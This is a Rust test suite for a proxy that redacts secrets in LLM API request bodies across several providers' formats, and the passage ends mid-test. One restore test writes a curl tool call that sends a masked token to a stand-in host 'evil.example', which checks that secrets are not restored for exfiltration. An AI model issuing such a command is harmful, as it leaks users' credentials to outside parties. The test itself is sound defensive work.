//! Stories about requests' bodies.

use std::sync::Arc;
use std::time::Duration;

use proptest::prelude::*;
use serde_json::{Value, json};

use super::properties::text;
use super::{expand, redactor};
use crate::model::Secret;
use crate::secrets::{BodyError, Channel, Conversation, Known, Masked, Mode, Policy, Redactor, Restore, Sink, Source};

const NOW: Duration = Duration::from_secs(5);

fn conversation() -> Conversation {
    Conversation::new(Arc::new(redactor()), Restore::Off)
}

/// The body with every string's secret masked by hand: `‹a36›` in a value, and the text that must come out.
fn masked(body: &str) -> (String, Vec<String>) {
    let conversation = conversation();
    let out = conversation.body(body.as_bytes(), NOW).unwrap_or_else(|e| panic!("{e}: {body}"));
    let places = out.hits.iter().map(|h| h.place.clone()).collect();
    (String::from_utf8(out.body.into_owned()).unwrap(), places)
}

fn token() -> String {
    expand("ghp_‹a36›", 5).0
}

fn word() -> String {
    redactor().redact(&token()).text.into_owned()
}

/// Puts a secret into this place and wants it masked there, and all else as it was.
#[track_caller]
fn hidden_in(place: &str, body: &str) {
    let body = body.replace("SECRET", &token());
    let (out, places) = masked(&body);
    assert_eq!(out, body.replace(&token(), &word()), "{place}");
    assert!(places.iter().any(|p| p == place), "{places:?} instead of {place}");
}

#[test]
fn every_text_of_every_dialect_is_masked() {
    for (place, body) in [
        // OpenAI Chat
        ("/messages/0/content", r#"{"model":"m","messages":[{"role":"user","content":"use SECRET now"}]}"#),
        ("/messages/1/content/0/text", r#"{"messages":[{"role":"a"},{"content":[{"type":"text","text":"SECRET"}]}]}"#),
        (
            "/messages/0/tool_calls/0/function/arguments",
            r#"{"messages":[{"tool_calls":[{"id":"c","function":{"name":"f","arguments":"{\"k\":\"SECRET\"}"}}]}]}"#,
        ),
        (
            "/messages/0/tool_calls/0/custom/input",
            r#"{"messages":[{"tool_calls":[{"custom":{"name":"f","input":"SECRET"}}]}]}"#,
        ),
        ("/messages/0/content", r#"{"messages":[{"role":"tool","tool_call_id":"c","content":"SECRET"}]}"#),
        (
            "/messages/0/content/0/file/filename",
            r#"{"messages":[{"content":[{"type":"file","file":{"filename":"a SECRET b"}}]}]}"#,
        ),
        (
            "/messages/0/content/0/image_url/url",
            r#"{"messages":[{"content":[{"image_url":{"url":"https://h/?t=SECRET"}}]}]}"#,
        ),
        ("/messages/0/reasoning_content", r#"{"messages":[{"reasoning_content":"SECRET"}]}"#),
        (
            "/tools/0/function/description",
            r#"{"tools":[{"type":"function","function":{"name":"f","description":"SECRET"}}]}"#,
        ),
        (
            "/tools/0/function/parameters/properties/a/default",
            r#"{"tools":[{"function":{"parameters":{"properties":{"a":{"default":"SECRET"}}}}}]}"#,
        ),
        ("/user", r#"{"user":"SECRET"}"#),
        ("/metadata/x", r#"{"metadata":{"x":"SECRET"}}"#),
        ("/response_format/json_schema/description", r#"{"response_format":{"json_schema":{"description":"SECRET"}}}"#),
        // OpenAI Responses
        ("/input", r#"{"input":"SECRET"}"#),
        ("/instructions", r#"{"instructions":"SECRET"}"#),
        ("/input/0/content/0/text", r#"{"input":[{"role":"user","content":[{"type":"input_text","text":"SECRET"}]}]}"#),
        (
            "/input/0/arguments",
            r#"{"input":[{"type":"function_call","call_id":"c","arguments":"{\"a\":{\"b\":[\"SECRET\"]}}"}]}"#,
        ),
        ("/input/0/output", r#"{"input":[{"type":"function_call_output","call_id":"c","output":"SECRET"}]}"#),
        (
            "/input/0/output/0/text",
            r#"{"input":[{"type":"function_call_output","output":[{"type":"input_text","text":"SECRET"}]}]}"#,
        ),
        (
            "/input/0/summary/0/text",
            r#"{"input":[{"type":"reasoning","summary":[{"type":"summary_text","text":"SECRET"}]}]}"#,
        ),
        (
            "/input/0/action/command/2",
            r#"{"input":[{"type":"local_shell_call","action":{"command":["a","b","SECRET"]}}]}"#,
        ),
        // Anthropic
        ("/system", r#"{"system":"SECRET"}"#),
        ("/system/0/text", r#"{"system":[{"type":"text","text":"SECRET","cache_control":{"type":"ephemeral"}}]}"#),
        (
            "/messages/0/content/0/input/command",
            r#"{"messages":[{"content":[{"type":"tool_use","id":"t","input":{"command":"SECRET"}}]}]}"#,
        ),
        (
            "/messages/0/content/0/content",
            r#"{"messages":[{"content":[{"type":"tool_result","tool_use_id":"t","content":"SECRET"}]}]}"#,
        ),
        (
            "/messages/0/content/0/content/0/text",
            r#"{"messages":[{"content":[{"type":"tool_result","content":[{"type":"text","text":"SECRET"}]}]}]}"#,
        ),
        (
            "/messages/0/content/0/source/data",
            r#"{"messages":[{"content":[{"type":"document","source":{"type":"text","media_type":"text/plain","data":"it is SECRET"}}]}]}"#,
        ),
        ("/messages/0/content/0/title", r#"{"messages":[{"content":[{"type":"document","title":"SECRET"}]}]}"#),
        (
            "/tools/0/input_schema/properties/*/type",
            r#"{"tools":[{"input_schema":{"properties":{"SECRET":{"type":"SECRET"}}}}]}"#,
        ),
        ("/metadata/user_id", r#"{"metadata":{"user_id":"SECRET"}}"#),
        // Gemini
        ("/contents/0/parts/0/text", r#"{"contents":[{"role":"user","parts":[{"text":"SECRET"}]}]}"#),
        ("/systemInstruction/parts/0/text", r#"{"systemInstruction":{"parts":[{"text":"SECRET"}]}}"#),
        (
            "/contents/0/parts/0/functionCall/args/x",
            r#"{"contents":[{"parts":[{"functionCall":{"name":"f","args":{"x":"SECRET"}},"thoughtSignature":"abc"}]}]}"#,
        ),
        (
            "/contents/0/parts/0/functionResponse/response/output",
            r#"{"contents":[{"parts":[{"functionResponse":{"name":"f","response":{"output":"SECRET"}}}]}]}"#,
        ),
        (
            "/contents/0/parts/0/fileData/fileUri",
            r#"{"contents":[{"parts":[{"fileData":{"fileUri":"gs://b?t=SECRET"}}]}]}"#,
        ),
        (
            "/generateContentRequest/contents/0/parts/0/text",
            r#"{"generateContentRequest":{"contents":[{"parts":[{"text":"SECRET"}]}]}}"#,
        ),
        // Ollama
        ("/messages/0/thinking", r#"{"messages":[{"role":"assistant","thinking":"SECRET"}]}"#),
        (
            "/messages/0/tool_calls/0/function/arguments/k",
            r#"{"messages":[{"tool_calls":[{"function":{"name":"f","arguments":{"k":"SECRET"}}}]}]}"#,
        ),
        ("/prompt", r#"{"prompt":"SECRET","options":{"stop":["a"]}}"#),
        // Nobody's yet
        ("/new/deep/0/1", r#"{"new":{"deep":[["x","SECRET"]]}}"#),
        ("/messages/0/novel", r#"{"messages":[{"novel":"SECRET"}]}"#),
        ("/messages/0/content/0/novel/a", r#"{"messages":[{"content":[{"novel":{"a":"SECRET"}}]}]}"#),
        ("/*", r#"{"SECRET":1}"#),
        ("", r#""SECRET""#),
        ("/0", r#"["SECRET"]"#),
    ] {
        hidden_in(place, body);
    }
}

#[test]
fn a_name_says_something_about_its_value() {
    let (text, secrets) = expand("‹a20›", 2);
    for body in [
        json!({"messages": [{"content": [{"type": "tool_use", "input": {"password": text}}]}]}),
        json!({"contents": [{"parts": [{"functionCall": {"args": {"api_key": text}}}]}]}),
        json!({"messages": [{"tool_calls": [{"function": {"arguments": json!({"db_password": text}).to_string()}}]}]}),
        json!({"client_secret": text}),
    ] {
        let (out, places) = masked(&body.to_string());
        assert!(!out.contains(&secrets[0]), "{out}");
        assert_eq!(places.len(), 1);
        serde_json::from_str::<Value>(&out).unwrap();
    }
}

#[test]
fn nothing_else_changes_by_a_byte() {
    let body = format!(
        "\u{20}{{ \"model\" : \"m\\u002d1\",\n\t\"temperature\":1.0e+2, \"a\":[ ],\"a\":{{}} , \"x\":-0,\r\n\"messages\":[{{\"role\":\"user\",\"content\":\"\\u00e9\\/\\n\\ud83d\\ude00 {} \\\"q\\\" \\u0041\"}}] }}\n",
        token()
    );
    let (out, _) = masked(&body);
    assert_eq!(out, body.replace(&token(), &word()));
    let clean = body.replace(&token(), "nothing");
    let conversation = conversation();
    let kept = conversation.body(clean.as_bytes(), NOW).unwrap();
    assert!(matches!(kept.body, std::borrow::Cow::Borrowed(_)) && kept.hits.is_empty());
}

#[test]
fn escapes_hide_nothing() {
    let token = token();
    let every: String = token.bytes().map(|b| format!("\\u{b:04x}")).collect();
    for body in [
        format!(r#"{{"messages":[{{"content":"\n{token}\t"}}]}}"#),
        format!(r#"{{"messages":[{{"content":"{every}"}}]}}"#),
        format!(r#"{{"mess\u0061ges":[{{"content":"{every}"}}]}}"#),
        format!(r#"{{"x":{{"{every}":0}}}}"#),
        format!(r#"{{"input":[{{"arguments":"{{\"a\":\"\\n{token}\\n\"}}"}}]}}"#),
        format!(r#"{{"input":[{{"arguments":"{{\"a\":\"{token}"}}]}}"#),
    ] {
        let (out, places) = masked(&body);
        let value: Value = serde_json::from_str(&out).unwrap();
        assert!(!value.to_string().contains(&token), "{out}");
        assert_eq!(places.len(), 1, "{body}");
    }
    // A key of several lines keeps them, escaped as deep as it lies.
    let (key, secrets) = expand("-----BEGIN PRIVATE KEY-----\n‹b64›\n‹b64›\n-----END PRIVATE KEY-----\n", 3);
    let arguments = json!({"content": key}).to_string();
    for body in [json!({"input": [{"arguments": arguments}]}), json!({"system": key}), json!({"new": {"k": key}})] {
        let (out, _) = masked(&body.to_string());
        let value: Value = serde_json::from_str(&out).unwrap();
        assert!(secrets.iter().all(|s| !value.to_string().contains(s.as_str())), "{out}");
        if let Some(inner) = value["input"][0]["arguments"].as_str() {
            let inner: Value = serde_json::from_str(inner).unwrap();
            assert_eq!(inner["content"].as_str().unwrap().matches('\n').count(), key.matches('\n').count());
        }
    }
}

#[test]
fn a_quote_is_one_however_it_is_escaped() {
    let secret = expand("‹a20›", 2).0;
    // Code in a tool's input, as JSON and as others write it.
    for (quote, slash) in [("\\\"", "\\\\"), ("\\u0022", "\\u005c"), ("\\u0022", "\\u005C")] {
        for code in
            ["password = Q{}Q; x = Q1Q", "db.password=Q{}Q", "{Qapi_keyQ: Q{}Q, QaQ: QbSQ}", "SSa Q{}Q password: Q{}Q"]
        {
            let code = code.replace('Q', quote).replace('S', slash).replace("{}", &secret);
            let body = format!("{{\"new\":{{\"code\":\"{code}\",\"after\":\"{quote}{slash}\"}}}}");
            let before: Value = serde_json::from_str(&body).unwrap();
            let (out, places) = masked(&body);
            let after: Value = serde_json::from_str(&out).unwrap();
            let shown = places.len();
            assert!(shown > 0 && !out.contains(&secret), "{body}\n{out}");
            let word = out.split("MSEC_").nth(1).unwrap();
            let word =
                format!("MSEC_{}", &word[..word.find(|c: char| !c.is_ascii_alphanumeric() && c != '_').unwrap()]);
            assert_eq!(out, body.replace(&secret, &word), "nothing but the secret is replaced");
            let code = |v: &Value| v["new"]["code"].as_str().unwrap().to_owned();
            assert_eq!(code(&after), code(&before).replace(&secret, &word));
        }
    }
}

/// Every rule's examples with quotes in them: what is found behind `\"` is found behind `\u0022`.
#[test]
fn structures_are_found_however_their_quotes_are_escaped() {
    let mut missed = Vec::new();
    let marks = ['"', '\\'];
    for rule in crate::secrets::engine::rules() {
        for example in rule.hits.iter().filter(|e| e.contains(marks)) {
            let text = expand(example, 11).0;
            let short = json!({"new": {"code": text}}).to_string();
            let (head, tail) = short.split_at(short.find("code\":\"").unwrap() + 7);
            let inner = &tail[..tail.len() - 3];
            let long = format!(
                "{head}{}{}",
                inner.replace("\\\\", "\\u005c").replace("\\\"", "\\u0022"),
                &tail[inner.len()..]
            );
            let (before, after): (Value, Value) =
                (serde_json::from_str(&masked(&short).0).unwrap(), serde_json::from_str(&masked(&long).0).unwrap());
            if before != after {
                missed.push((rule.name, before, after));
            }
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn pictures_pass_and_files_of_text_do_not() {
    use base64::Engine;
    let encode = |bytes: &[u8]| base64::engine::general_purpose::STANDARD.encode(bytes);
    let noise: Vec<u8> = (0..9000u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 24).to_le_bytes()[0]).collect();
    let secret = token();
    let picture = encode(&[&[0x89, b'P', b'N', b'G', 0, 1, 2, 3], noise.as_slice(), secret.as_bytes()].concat());
    for body in [
        json!({"messages": [{"content": [{"type": "image", "source": {"type": "base64", "data": picture}}]}]}),
        json!({"messages": [{"content": [{"image_url": {"url": format!("data:image/png;base64,{picture}")}}]}]}),
        json!({"messages": [{"images": [picture]}]}),
        json!({"contents": [{"parts": [{"inlineData": {"mimeType": "image/png", "data": picture}}]}]}),
        json!({"input": [{"content": [{"type": "input_image", "image_url": format!("data:image/png;base64,{picture}")}]}]}),
    ] {
        assert_eq!(masked(&body.to_string()), (body.to_string(), Vec::new()));
    }
    let file = format!("{}\nTOKEN={secret}\n", "some line of a file\n".repeat(100));
    let file = encode(file.as_bytes());
    for body in [
        json!({"input": [{"content": [{"type": "input_file", "file_data": format!("data:text/plain;base64,{file}")}]}]}),
        json!({"contents": [{"parts": [{"inline_data": {"data": file}}]}]}),
    ] {
        let (out, places) = masked(&body.to_string());
        assert_eq!(places.len(), 1);
        let text = out.split(['"', ',']).find(|p| p.len() > 1000).unwrap();
        let decoded = base64::engine::general_purpose::STANDARD.decode(text).unwrap();
        let decoded = String::from_utf8(decoded).unwrap();
        assert!(decoded.contains(&word()) && !decoded.contains(&secret));
    }
}

#[test]
fn what_is_sealed_is_never_changed() {
    let known = "winter-holiday-plans";
    let redactor = Redactor::new(Mode::Redact, vec![Known::new("k", Secret::new(known.to_owned()))], [3; 8]);
    let conversation = Conversation::new(Arc::new(redactor), Restore::Off);
    let send = |body: &Value| conversation.body(body.to_string().as_bytes(), NOW).map(|m| m.body.into_owned());
    let random = expand("‹b400›", 3).0;
    let secret = token();
    let sealed = |text: &str| {
        vec![
            json!({"messages": [{"content": [{"type": "thinking", "thinking": "", "signature": text}]}]}),
            json!({"messages": [{"content": [{"type": "redacted_thinking", "data": text}]}]}),
            json!({"input": [{"type": "reasoning", "encrypted_content": text}]}),
            json!({"contents": [{"parts": [{"text": "a", "thoughtSignature": text}]}]}),
            json!({"messages": [{"reasoning_details": [{"type": "reasoning.encrypted", "data": text}]}]}),
        ]
    };
    for body in sealed(&random).into_iter().chain(sealed(&format!("{random} {secret}"))) {
        assert_eq!(send(&body).unwrap(), body.to_string().as_bytes());
    }
    for body in sealed(known) {
        assert!(matches!(send(&body), Err(BodyError::Sealed { .. })), "{body}");
    }
    let thought =
        |text: &str| json!({"messages": [{"content": [{"type": "thinking", "thinking": text, "signature": "s"}]}]});
    let error = send(&thought(&format!("so {secret}"))).unwrap_err();
    assert_eq!(error, BodyError::Sealed { place: "/messages/0/content/0/thinking".to_owned(), kind: "GitHub token" });
    assert!(!error.to_string().contains(&secret));
    // Doubtful ones are told and stay.
    let doubtful = thought(&expand("maybe password: ‹a9›1!", 1).0).to_string();
    let out = conversation.body(doubtful.as_bytes(), NOW).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(out.body, doubtful.as_bytes());
    assert!(out.hits.iter().all(|h| !h.masked));
}

#[test]
fn a_secret_in_place_of_a_name_is_not_sent() {
    let known = "winter-holiday-plans";
    let redactor = Redactor::new(Mode::Redact, vec![Known::new("k", Secret::new(known.to_owned()))], [3; 8]);
    let conversation = Conversation::new(Arc::new(redactor), Restore::Off);
    let secret = token();
    let escaped = format!("\\u0067{}", &secret[1..]);
    for (place, body) in [
        ("/model", r#"{"model":"SECRET"}"#),
        ("/messages/0/role", r#"{"messages":[{"role":"SECRET","content":"a"}]}"#),
        ("/messages/0/tool_call_id", r#"{"messages":[{"role":"tool","tool_call_id":"SECRET"}]}"#),
        ("/messages/0/content/0/id", r#"{"messages":[{"content":[{"type":"tool_use","id":"SECRET"}]}]}"#),
        ("/messages/0/content/0/type", r#"{"messages":[{"content":[{"type":"SECRET"}]}]}"#),
        ("/input/0/content/0/file_id", r#"{"input":[{"content":[{"type":"input_file","file_id":"SECRET"}]}]}"#),
        ("/messages/0/tool_calls/0/id", r#"{"messages":[{"tool_calls":[{"id":"SECRET"}]}]}"#),
        ("/previous_response_id", r#"{"previous_response_id":"SECRET"}"#),
    ] {
        for value in [known, &secret, &escaped, &format!("{} {secret}", "long ".repeat(40))] {
            let body = body.replace("SECRET", value);
            match conversation.body(body.as_bytes(), NOW) {
                Err(error) => assert!(
                    matches!(&error, BodyError::Sealed { place: at, .. } if at == place)
                        && !error.to_string().contains(value),
                    "{error} in {body}"
                ),
                // What is that long is no name: it is masked.
                Ok(out) => {
                    assert!(value.len() > 128 && !String::from_utf8_lossy(&out.body).contains(&secret), "{body}")
                }
            }
        }
    }
    let ids = json!({"model": "claude-opus-5-5-20260801", "previous_response_id": expand("resp_‹h48›", 1).0, "messages": [
        {"role": "assistant", "content": [{"type": "tool_use", "id": expand("toolu_01‹a22›", 2).0, "name": "f", "input": {}}],
         "tool_calls": [{"id": expand("call_‹a24›", 3).0}, {"id": expand("chatcmpl-tool-‹h32›", 4).0}, {"id": expand("fc_‹h50›", 5).0}]},
        {"role": "tool", "tool_call_id": expand("call_‹a24›", 3).0, "content": [{"type": "image", "file_id": expand("file-‹a24›", 6).0}]},
    ]});
    assert!(conversation.body(ids.to_string().as_bytes(), NOW).unwrap().hits.is_empty());
}

#[test]
fn only_what_the_protocols_seal_is_sealed() {
    for (place, body) in [
        ("/messages/0/content/0/data", r#"{"messages":[{"content":[{"data":"SECRET"}]}]}"#),
        ("/messages/0/content/0/data", r#"{"messages":[{"content":[{"type":"text","data":"SECRET"}]}]}"#),
        ("/messages/0/content/0/data", r#"{"messages":[{"content":[{"data":"SECRET","type":"thinking"}]}]}"#),
        ("/messages/0/content/0/signature", r#"{"messages":[{"content":[{"signature":"SECRET","type":"text"}]}]}"#),
        ("/contents/0/parts/0/signature", r#"{"contents":[{"parts":[{"text":"a","signature":"SECRET"}]}]}"#),
        (
            "/messages/0/content/0/signature",
            r#"{"messages":[{"content":[{"type":"thinking","signature":"SECRET","type":"text"}]}]}"#,
        ),
        (
            "/messages/0/content/0/data",
            r#"{"messages":[{"content":[{"data":"SECRET","x":{"type":"redacted_thinking"}},{"type":"redacted_thinking"}]}]}"#,
        ),
        (
            "/messages/0/reasoning_details/0/data",
            r#"{"messages":[{"reasoning_details":[{"type":"reasoning.text","data":"SECRET"}]}]}"#,
        ),
    ] {
        hidden_in(place, body);
    }
    let secret = token();
    for body in [
        json!({"messages": [{"content": [{"signature": secret, "thinking": "", "type": "thinking"}]}]}),
        json!({"messages": [{"content": [{"data": secret, "type": "redacted_thinking"}]}]}),
        json!({"messages": [{"reasoning_details": [{"type": "reasoning.text", "text": "a", "signature": secret}]}]}),
    ] {
        assert_eq!(masked(&body.to_string()), (body.to_string(), Vec::new()));
    }
}

#[test]
fn what_cannot_be_read_is_refused_with_a_reason() {
    let conversation = conversation();
    let deep = |n: usize| format!("{}{}", "[".repeat(n), "]".repeat(n)).into_bytes();
    let error = |bytes: &[u8]| conversation.body(bytes, NOW).unwrap_err();
    assert_eq!(error(&deep(100_000)), BodyError::Deep);
    assert_eq!(error(&b"{\"a\":".repeat(100_000)), BodyError::Deep);
    assert!(conversation.body(&deep(500), NOW).is_ok());
    assert_eq!(error(b"{\"a\":\"\xff\"}"), BodyError::Encoding(6));
    assert_eq!(error(br#"{"messages":[{"content":"x\ud800y"}]}"#), BodyError::Surrogate(26));
    assert_eq!(error(br#"{"messages":[{"content":"x\udc00\ud800y"}]}"#), BodyError::Surrogate(26));
    for truncated in
        ["", "{", "{\"a", "{\"a\"", "{\"a\":", "{\"a\":\"b", "{\"a\":\"b\\", "{\"a\":1", "[1,", "[tru", "  "]
    {
        assert_eq!(error(truncated.as_bytes()), BodyError::Truncated, "{truncated}");
    }
    for (bad, at) in [
        ("{a:1}", 1),
        ("{\"a\" 1}", 5),
        ("[1 2]", 3),
        ("[1}", 2),
        ("{} x", 3),
        ("[,]", 1),
        ("{\"a\":1,}", 7),
        ("[\"\\x\"]", 2),
        ("'a'", 0),
        ("[nul]", 1),
    ] {
        assert_eq!(error(bad.as_bytes()), BodyError::Syntax(at), "{bad}");
    }
}

#[test]
fn history_that_is_sent_again_costs_nothing() {
    let conversation = conversation();
    let code = "fn main() { let x = 1; }\n".repeat(400);
    let mut messages = vec![json!({"role": "user", "content": format!("{code} token {}", token())})];
    let send = |messages: &[Value]| {
        let before = conversation.looked();
        let body =
            json!({"model": "m", "tools": [{"name": "t", "input_schema": {"type": "object"}}], "messages": messages});
        let body = body.to_string();
        let out = conversation.body(body.as_bytes(), NOW).unwrap();
        assert!(String::from_utf8_lossy(&out.body).contains(&word()));
        conversation.looked() - before
    };
    assert!(send(&messages) >= 10_000);
    assert_eq!(send(&messages), 0);
    messages.push(json!({"role": "assistant", "content": [{"type": "tool_use", "id": "1", "input": {"path": "src"}}]}));
    messages.push(json!({"role": "user", "content": "one more sentence"}));
    let new = send(&messages);
    assert!((17..100).contains(&new), "{new}");
    // What is learned since may be in what was looked at before.
    conversation.redactor().learn(Secret::new("main() { let x".to_owned()));
    assert!(send(&messages) >= 10_000);
}

#[test]
fn a_verdict_on_one_place_is_none_on_another() {
    let conversation = conversation();
    let secret = token();
    let escaped = format!("\\u0067{}", &secret[1..]);
    // As a signature it is not looked at for this, as text it is masked all the same.
    let body = format!(r#"{{"messages":[{{"content":[{{"type":"thinking","signature":"{escaped}"}}]}}]}}"#);
    assert_eq!(conversation.body(body.as_bytes(), NOW).unwrap().body.as_ref(), body.as_bytes());
    // A doubtful one may be an id.
    let doubtful = ["password:", "hunter2!"].join(" ");
    let body = format!(r#"{{"messages":[{{"tool_call_id":"{doubtful}"}}]}}"#);
    assert_eq!(conversation.body(body.as_bytes(), NOW).unwrap().body.as_ref(), body.as_bytes());
    let body = body.replace("tool_call_id", "content");
    assert_eq!(conversation.body(body.as_bytes(), NOW).unwrap().hits.len(), 1);
    let body = format!(r#"{{"messages":[{{"content":"{escaped}"}}]}}"#);
    assert_eq!(conversation.body(body.as_bytes(), NOW).unwrap().hits.len(), 1);
}

#[test]
fn modes_decide_about_bodies_too() {
    let body = format!(r#"{{"system":"use {}"}}"#, token());
    let with = |mode| {
        let conversation = Conversation::new(Arc::new(Redactor::new(mode, Vec::new(), [3; 8])), Restore::Tools);
        let masked = conversation.body(body.as_bytes(), NOW);
        masked.map(|Masked { body: out, hits }| (out == body.as_bytes(), hits.len(), hits.iter().any(|h| h.masked)))
    };
    assert_eq!(with(Mode::Off), Ok((true, 0, false)));
    assert_eq!(with(Mode::Warn), Ok((true, 1, false)));
    assert_eq!(with(Mode::Redact), Ok((false, 1, true)));
    let refused = with(Mode::Block).unwrap_err();
    assert_eq!(
        refused.to_string(),
        "the request holds a GitHub token in /system and redact.mode is \"block\" for that",
        "kinds and places, no values"
    );
}

/// A body with a token of GitHub's in one place and one of npm's in another, by this policy.
fn by(policy: Policy) -> (Conversation, String, [String; 2]) {
    let (npm, _) = expand("npm_‹a36›", 6);
    let body = format!(r#"{{"system":"use {}","messages":[{{"content":"and \n {npm}"}}]}}"#, token());
    let conversation = Conversation::new(Arc::new(Redactor::with(policy, Vec::new(), [3; 8])), Restore::Tools);
    (conversation, body, [token(), npm])
}

#[test]
fn each_kind_has_its_own_mode_in_a_body() {
    let kinds = |mode| [("npm".to_owned(), mode)].into();
    let left = |policy: Policy| {
        let (conversation, body, secrets) = by(policy);
        let out = conversation.body(body.as_bytes(), NOW).unwrap();
        let text = String::from_utf8(out.body.into_owned()).unwrap();
        let masked: Vec<bool> = out.hits.iter().map(|h| h.masked).collect();
        let kept = conversation.vault().map_or(0, crate::secrets::Vault::len);
        assert_eq!(kept, masked.iter().filter(|m| **m).count(), "what was sent needs no giving back");
        (secrets.map(|s| text.contains(&s)), masked)
    };
    let floor = |mode| Policy { floor: Mode::Redact, ..Policy::all(mode) };
    for mode in [Mode::Off, Mode::Warn] {
        assert_eq!(left(floor(mode)), ([false, false], vec![true, true]), "a repository's floor holds under {mode:?}");
    }
    let only = Policy { kinds: kinds(Mode::Redact), ..Policy::all(Mode::Off) };
    assert_eq!(left(only), ([true, false], vec![true]));
    let warned = Policy { kinds: kinds(Mode::Warn), ..Policy::all(Mode::Redact) };
    assert_eq!(left(warned), ([false, true], vec![true, false]));
    let off = Policy { kinds: kinds(Mode::Off), ..Policy::all(Mode::Redact) };
    assert_eq!(left(off), ([false, true], vec![true]));
}

#[test]
fn a_body_with_a_kind_that_blocks_is_refused() {
    let policy = Policy { kinds: [("npm".to_owned(), Mode::Block)].into(), ..Policy::all(Mode::Warn) };
    let (conversation, body, _) = by(policy);
    let BodyError::Blocked(blocked) = conversation.body(body.as_bytes(), NOW).unwrap_err() else {
        panic!("not blocked")
    };
    let places: Vec<_> = blocked.iter().map(|b| (b.place.as_str(), b.kind)).collect();
    assert_eq!(places, [("/messages/0/content", "npm token")]);
    assert_eq!(conversation.vault().map(crate::secrets::Vault::len), Some(0), "nothing of it was sent");
}

#[test]
fn a_mark_on_the_line_lets_nothing_out() {
    let body = format!(r#"{{"system":"a = '{}' # monster:allow"}}"#, token());
    let (out, places) = masked(&body);
    assert!(!out.contains(&token()) && places == ["/system"], "{out}");
}

#[test]
fn a_verdict_from_before_something_was_learned_is_not_kept() {
    let conversation = conversation();
    let text = "see winter-holiday-plans";
    let age = conversation.age();
    conversation.redactor().learn(Secret::new("winter-holiday-plans".to_owned()));
    conversation.cleared(age, 1, text);
    assert!(!conversation.clean(1, text));
    conversation.cleared(conversation.age(), 1, "see nothing");
    assert!(conversation.clean(1, "see nothing"));
}

#[test]
fn an_answer_gets_back_what_the_request_held() {
    let conversation = Conversation::new(Arc::new(redactor()), Restore::Tools);
    let word = word();
    let body = json!({"messages": [
        {"content": [{"type": "text", "text": format!("curl https://api.example.com/?k={}", token())}], "role": "user"},
    ]});
    conversation.body(body.to_string().as_bytes(), NOW).unwrap();
    let restore = |sink, source, text: &str| {
        let mut restorer = conversation.restorer(Channel { sink, source, tool: "Bash" }, NOW).unwrap();
        let mut out = restorer.feed(text.as_bytes()).forward();
        out.extend(restorer.finish().0.forward());
        String::from_utf8(out).unwrap()
    };
    assert_eq!(restore(Sink::ClientText, Source::Plain, &format!("`{word}`")), format!("`{}`", token()));
    let call = |host: &str| json!({"command": format!("curl https://{host}/?k={word}")}).to_string();
    let same = call("api.example.com");
    assert_eq!(restore(Sink::ToolArguments, Source::Json, &same), same.replace(&word, &token()));
    assert_eq!(restore(Sink::ToolArguments, Source::Json, &call("evil.example")), call("evil.example"));
    // A password with a quote in it comes back with it, as deep as it lies.
    let odd = json!({"password": "a\"b\\c-4711-xyZ"});
    let body_of = |a: &Value| json!({"input": [{"type": "function_call", "arguments": a.to_string()}]}).to_string();
    let sent = body_of(&odd);
    let sent = conversation.body(sent.as_bytes(), NOW).unwrap();
    let sent: Value = serde_json::from_slice(&sent.body).unwrap();
    let arguments = sent["input"][0]["arguments"].as_str().unwrap();
    assert!(arguments.contains("MSEC_") && !arguments.contains("4711"));
    assert_eq!(restore(Sink::ToolArguments, Source::Json, arguments), odd.to_string());
    // The same text from a tool teaches no host, and with restoring off nothing is kept.
    let other = Conversation::new(Arc::new(redactor()), Restore::Tools);
    let body = body.to_string().replace("\"user\"", "\"tool\"");
    other.body(body.as_bytes(), NOW).unwrap();
    let mut restorer =
        other.restorer(Channel { sink: Sink::ToolArguments, source: Source::Json, tool: "Bash" }, NOW).unwrap();
    assert!(restorer.feed(same.as_bytes()).forward().len() < same.len());
    assert_eq!(restorer.finish().1.len(), 1);
    let off = Conversation::new(Arc::new(redactor()), Restore::Off);
    off.body(body.as_bytes(), NOW).unwrap();
    assert!(off.vault().is_none());
}

fn value() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        text().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        Just(Value::Null),
        text().prop_map(|t| Value::from(json!({ "password": t }).to_string())),
    ];
    let key = prop::sample::select(vec![
        "messages",
        "content",
        "text",
        "role",
        "input",
        "arguments",
        "tool_calls",
        "function",
        "parts",
        "contents",
        "source",
        "data",
        "image_url",
        "url",
        "thinking",
        "signature",
        "password",
        "api_key",
        "x",
        "system",
        "output",
        "args",
    ]);
    leaf.prop_recursive(6, 40, 5, move |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..5).prop_map(Value::from),
            prop::collection::vec((key.clone(), inner), 0..5)
                .prop_map(|pairs| pairs.into_iter().map(|(k, v)| (k.to_owned(), v)).collect::<Value>()),
        ]
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(150))]

    #[test]
    fn json_stays_json_and_keeps_its_shape(value in value(), pretty in any::<bool>()) {
        let body = if pretty { serde_json::to_string_pretty(&value).unwrap() } else { value.to_string() };
        let conversation = conversation();
        match conversation.body(body.as_bytes(), NOW) {
            Err(BodyError::Sealed { .. }) => {}
            Err(error) => prop_assert!(false, "{}", error),
            Ok(out) => {
                let again: Value = serde_json::from_slice(&out.body).unwrap();
                prop_assert_eq!(again.is_object(), value.is_object());
                if out.hits.iter().all(|h| !h.masked) {
                    prop_assert_eq!(out.body.as_ref(), body.as_bytes());
                }
                // What lies before the first hit and behind the last is as it was.
                let first = out.hits.iter().map(|h| h.hit.start).min().unwrap_or(body.len());
                let last = out.hits.iter().map(|h| h.hit.end).max().unwrap_or(0);
                prop_assert!(out.body.starts_with(&body.as_bytes()[..first]));
                prop_assert!(out.body.ends_with(&body.as_bytes()[last..]));
            }
        }
    }

    #[test]
    fn a_known_value_leaves_in_no_string(value in value(), at in any::<prop::sample::Index>()) {
        let secret = "kq7Zp2Vx9-Lm4Tn8Rw3";
        let body = value.to_string();
        let quotes: Vec<usize> = body.match_indices('"').map(|(at, _)| at).collect();
        prop_assume!(!quotes.is_empty());
        let place = quotes[at.index(quotes.len())];
        let mut planted = body;
        planted.insert_str(place + 1, secret);
        prop_assume!(serde_json::from_str::<Value>(&planted).is_ok());
        let redactor = Redactor::new(Mode::Redact, vec![Known::new("k", Secret::new(secret.to_owned()))], [3; 8]);
        let conversation = Conversation::new(Arc::new(redactor), Restore::Off);
